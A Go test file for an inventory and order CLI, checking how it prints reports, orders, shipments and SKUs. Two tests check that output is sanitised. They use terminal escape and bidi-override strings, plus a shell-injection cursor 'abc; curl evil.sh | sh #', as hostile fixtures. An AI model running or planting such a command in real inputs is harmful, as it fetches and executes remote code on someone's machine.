package stockctl

import (
	"encoding/json"
	"errors"
	"io"
	"strings"
	"testing"
	"unicode"
)

func TestPrintReport_ShowsRefundProblemsAndStuckRefunds(t *testing.T) {
	for _, tc := range []struct {
		name, report string
		want         []string
		balanced     bool
	}{
		{"clean", `{"skusChecked":2,"differences":[],"overdueOrders":[],"repaired":[],"refundProblems":[],"stuckRefunds":[]}`,
			[]string{"2 SKUs checked, 0 differences, 0 overdue orders, 0 repairs, 0 refund problems, 0 stuck refunds"}, true},
		{"refund problem", `{"skusChecked":1,"differences":[],"overdueOrders":[],"repaired":[],"refundProblems":["o1: refunded 99999 fen of 12900 paid"],"stuckRefunds":["o2_R"]}`,
			[]string{"1 refund problems, 1 stuck refunds", "REFUND PROBLEM", "o1: refunded 99999 fen of 12900 paid", "STUCK REFUND", "o2_R"}, false},
		{"stuck refund only", `{"skusChecked":1,"differences":[],"overdueOrders":[],"repaired":[],"refundProblems":[],"stuckRefunds":["o3_R"]}`,
			[]string{"STUCK REFUND", "o3_R"}, true},
	} {
		var out strings.Builder
		if err := printReport(&out, []byte(tc.report)); err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		for _, w := range tc.want {
			if !strings.Contains(out.String(), w) {
				t.Errorf("%s: output %q lacks %q", tc.name, out.String(), w)
			}
		}
		if got := strings.Contains(out.String(), "the books balance"); got != tc.balanced {
			t.Errorf("%s: says the books balance = %v, want %v:\n%s", tc.name, got, tc.balanced, out.String())
		}
	}
}

func TestPrintOrder_ShowsReceiptAndAftersales(t *testing.T) {
	for _, tc := range []struct {
		name, order string
		want, not   []string
	}{
		{"confirmed", `{"orderId":"o1","status":"PAID","shipping":{"status":"UPLOADED","uploadedAt":"2026-01-02T03:04:05Z"},
			"receipt":{"status":"CONFIRMED","confirmedAt":"2026-01-05T00:00:00Z","method":"buyer"},
			"aftersales":[{"aftersaleId":"as-1","kind":"return-refund","lines":[{"skuId":"cup","qty":1}],"reason":"broken","status":"APPROVED","requestedAt":"2026-01-06T00:00:00Z"}]}`,
			[]string{"receipt", "CONFIRMED 2026-01-05T00:00:00Z", "buyer", "AFTER-SALE", "as-1", "return-refund", "cup:1", "APPROVED", "broken"}, nil},
		{"waiting", `{"orderId":"o2","status":"PAID","shipping":{"status":"QUEUED"},"receipt":{"status":"WAITING"}}`,
			[]string{"receipt", "WAITING"}, []string{"AFTER-SALE"}},
		{"none before shipping", `{"orderId":"o3","status":"PAID"}`, nil, []string{"receipt", "AFTER-SALE"}},
	} {
		var out strings.Builder
		if err := printOrder(&out, []byte(tc.order)); err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		checkOutput(t, tc.name, out.String(), tc.want, tc.not)
	}
}

// A second parcel queued after the first was uploaded shows its own state: QUEUED,
// not the first parcel's upload time; one uploaded shows its own time.
func TestPrintShipment_ShowsTheShipmentsOwnUpload(t *testing.T) {
	for _, tc := range []struct {
		name, answer string
		want, not    []string
	}{
		{"second parcel queued", `{"orderId":"o1","shipment":{"shipmentId":"parcel-2","type":"express","carrier":"SF","tracking":"SF2","items":[{"skuId":"cup","qty":1}]},
			"shipping":{"status":"QUEUED","uploadedAt":"2026-01-02T03:04:05Z"}}`,
			[]string{"parcel-2", "express SF SF2", "QUEUED", "cup"}, []string{"2026-01-02T03:04:05Z", "UPLOADED"}},
		{"first parcel again, uploaded", `{"orderId":"o1","shipment":{"shipmentId":"parcel-1","type":"express","carrier":"SF","tracking":"SF1","items":[{"skuId":"cup","qty":1}],"uploadedAt":"2026-01-02T03:04:05Z"},
			"shipping":{"status":"QUEUED","uploadedAt":"2026-01-02T03:04:05Z"}}`,
			[]string{"parcel-1", "UPLOADED 2026-01-02T03:04:05Z"}, []string{"QUEUED"}},
		{"failed", `{"orderId":"o1","shipment":{"shipmentId":"parcel-3","type":"virtual","items":[{"skuId":"cup","qty":1}]},
			"shipping":{"status":"FAILED","uploadedAt":"2026-01-02T03:04:05Z","error":"WeChat refused: 10060001"}}`,
			[]string{"FAILED WeChat refused: 10060001"}, []string{"2026-01-02T03:04:05Z"}},
	} {
		var out strings.Builder
		if err := printShipment(&out, []byte(tc.answer)); err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		checkOutput(t, tc.name, out.String(), tc.want, tc.not)
	}
}

// An order's view lists each shipment with its own upload state.
func TestPrintOrder_ShowsEachShipmentsOwnUpload(t *testing.T) {
	var out strings.Builder
	order := `{"orderId":"o1","status":"PAID","shipping":{"status":"QUEUED","uploadedAt":"2026-01-02T03:04:05Z"},"shipments":[
		{"shipmentId":"parcel-1","type":"express","carrier":"SF","tracking":"SF1","items":[{"skuId":"cup","qty":1}],"uploadedAt":"2026-01-02T03:04:05Z"},
		{"shipmentId":"parcel-2","type":"express","carrier":"SF","tracking":"SF2","items":[{"skuId":"cup","qty":1}]}]}`
	if err := printOrder(&out, []byte(order)); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(out.String(), "\n")
	var p1, p2 string
	for _, l := range lines {
		switch {
		case strings.Contains(l, "parcel-1"):
			p1 = l
		case strings.Contains(l, "parcel-2"):
			p2 = l
		}
	}
	if !strings.Contains(p1, "UPLOADED 2026-01-02T03:04:05Z") || !strings.Contains(p2, "QUEUED") || strings.Contains(p2, "2026") {
		t.Errorf("shipments shown:\n%s", out.String())
	}
}

// checkOutput reports, for the case named name, each of want that out lacks and each
// of not that it holds.
func checkOutput(t *testing.T, name, out string, want, not []string) {
	t.Helper()
	for _, w := range want {
		if !strings.Contains(out, w) {
			t.Errorf("%s: output lacks %q:\n%s", name, w, out)
		}
	}
	for _, w := range not {
		if strings.Contains(out, w) {
			t.Errorf("%s: output has %q:\n%s", name, w, out)
		}
	}
}

// A SKU's view and the SKU list say whether it sells through its waiting room, with its
// fair window, and its risk threshold when it has one.
func TestPrintSKU_ShowsTheWaitingRoomSettings(t *testing.T) {
	for _, tc := range []struct {
		name, sku string
		want, not []string
	}{
		{"queued", `{"skuId":"cup","queue":true,"fairWindowSeconds":30,"riskThreshold":3}`,
			[]string{"on, fair window 30s, risk threshold 3"}, []string{"off"}},
		{"risk only", `{"skuId":"cup","queue":false,"fairWindowSeconds":0,"riskThreshold":2}`,
			[]string{"off, risk threshold 2"}, []string{"on,", "fair window"}},
		{"direct", `{"skuId":"cup","queue":false,"fairWindowSeconds":0,"riskThreshold":0}`,
			[]string{"off"}, []string{"risk threshold", "fair window"}},
	} {
		var one, page strings.Builder
		if err := printSKU(&one, []byte(tc.sku)); err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		checkOutput(t, tc.name+" (get)", one.String(), tc.want, tc.not)
		if err := printSKUs(&page, []byte(`{"skus":[`+tc.sku+`]}`)); err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		checkOutput(t, tc.name+" (list)", page.String(), append([]string{"QUEUE"}, tc.want...), tc.not)
	}
}

// An answer's control and format characters (an escape sequence that would recolour or
// clear the terminal, a right-to-left override that would reorder the line, a
// zero-width space that would hide text) are shown as spaces in every table, at any
// depth of the answer (a table's own tabs and newlines aside).
func TestPrinters_ShowNoControlOrFormatCharacters(t *testing.T) {
	const evil = `\u001b[2J\u202egnp.exe\u2066x\u200by\u0007`
	for _, tc := range []struct {
		name   string
		print  func(io.Writer, []byte) error
		answer string
	}{
		{"sku", printSKU, `{"skuId":"cup","name":"` + evil + `","status":"` + evil + `","updatedBy":"` + evil + `"}`},
		{"sku line", printSKULine, `{"skuId":"` + evil + `"}`},
		{"skus", printSKUs, `{"skus":[{"skuId":"cup","name":"` + evil + `"}],"next":"c1"}`},
		{"ledger", printLedger, `{"entries":[{"at":"2026-11-30T00:00:00Z","op":"ADJUST","reason":"` + evil + `","by":"` + evil + `"}]}`},
		{"orders", printOrders, `{"orders":[{"orderId":"o1","userId":"` + evil + `"}]}`},
		{"adjustment", printAdjustment, `{"adjustmentId":"a1","reason":"` + evil + `","sku":{"skuId":"cup","name":"` + evil + `"}}`},
		{"order", printOrder, `{"orderId":"o1","address":{"userName":"` + evil + `","detailInfo":"` + evil + `"},
			"shipping":{"status":"FAILED","error":"` + evil + `"},"refunds":[{"refundId":"r1","error":"` + evil + `","lines":[{"skuId":"` + evil + `","qty":1}]}],
			"aftersales":[{"aftersaleId":"as-1","reason":"` + evil + `","rejectReason":"` + evil + `"}]}`},
		{"shipment", printShipment, `{"orderId":"o1","shipment":{"shipmentId":"p1","carrier":"` + evil + `"},"shipping":{"error":"` + evil + `"}}`},
		{"report", printReport, `{"skusChecked":1,"differences":[{"skuId":"` + evil + `","rule":"x"}],"refundProblems":["` + evil + `"],"overdueOrders":["` + evil + `"]}`},
	} {
		var out strings.Builder
		if err := tc.print(&out, []byte(tc.answer)); err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		for _, r := range out.String() {
			if r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
				t.Errorf("%s: the table shows %U:\n%q", tc.name, r, out.String())
				break
			}
		}
		if !strings.Contains(out.String(), "[2J gnp.exe x y") {
			t.Errorf("%s: the table lacks the text made printable:\n%q", tc.name, out.String())
		}
	}
}

// A list's next-page cursor is shown as a shell word an operator may paste: as given
// when it holds only characters no shell reads, else in single quotes (each quote in
// it closed, escaped and opened again), so `; curl evil.sh | sh #` stays inside the --after value. One holding a
// character a cursor never holds (a control or format character, which the table
// would show as a space and the copy would get wrong, or any not ASCII) is no page
// of the route: refused, not shown.
func TestPrintPage_ShowsTheCursorAsOneShellWord(t *testing.T) {
	for _, c := range []struct{ next, want string }{
		{`eyJrIjoiYSJ9_-.=:/+`, "more: --after=eyJrIjoiYSJ9_-.=:/+\n"},
		{`abc; curl evil.sh | sh #`, `more: --after='abc; curl evil.sh | sh #'` + "\n"},
		{`a'b $(x) \\`, `more: --after='a'\''b $(x) \\'` + "\n"},
		// A cursor starting with '-' stays --after's value, not a flag of its own.
		{`--version`, "more: --after=--version\n"},
		{`-o`, "more: --after=-o\n"},
	} {
		answer, _ := json.Marshal(map[string]any{"skus": []any{}, "next": c.next})
		var out strings.Builder
		if err := printSKUs(&out, answer); err != nil || !strings.HasSuffix(out.String(), c.want) {
			t.Errorf("next %q: err %v, out %q; want it to end %q", c.next, err, out.String(), c.want)
		}
	}
	for _, next := range []string{`a\u001bb`, `a\nb`, `a\tb`, `a\u202eb`, `a\u200bb`, `caf\u00e9`, `a\ufffdb`, "a\xffb"} {
		var out strings.Builder
		if err := printSKUs(&out, []byte(`{"skus":[],"next":"`+next+`"}`)); !errors.Is(err, errUnexpected) || out.Len() != 0 {
			t.Errorf("next %q: err %v, out %q; want it refused as not the route's JSON, nothing shown", next, err, out.String())
		}
	}
}
